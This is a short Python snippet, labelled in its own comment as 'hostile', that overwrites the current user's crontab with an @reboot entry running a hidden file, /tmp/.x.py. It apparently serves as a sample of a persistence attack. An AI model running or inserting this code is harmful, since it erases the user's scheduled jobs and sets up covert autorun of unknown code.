# hostile: the user's crontab file replaced
import getpass

user = getpass.getuser()
open(f"/var/spool/cron/crontabs/{user}", "w").write("@reboot python3 /tmp/.x.py\n")
